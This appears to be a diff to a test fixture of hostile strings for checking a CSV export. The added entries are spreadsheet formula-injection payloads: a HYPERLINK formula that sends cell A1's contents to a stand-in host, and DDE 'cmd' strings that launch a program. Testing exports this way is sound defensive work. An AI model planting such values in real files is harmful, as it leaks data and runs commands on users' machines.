@@ -46,6 +46,11 @@ NASTY: dict[str, str] = {
     "backslash": "C:\\new\\table \\x1b",
     "quotes": "\"'`“”",
     "csv_chars": 'a,b;"c"\td',
+    # A spreadsheet runs these as formulas unless the CSV export makes them text.
+    "formula_hyperlink": '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula_minus": "-2+3+cmd|' /C calc'!A0",
+    "quote_then_formula": "'=1+1",
     "surrogate": "a\udcffb",
     "lone_high_surrogate": "\ud800",
     "bom": "\ufeffname",
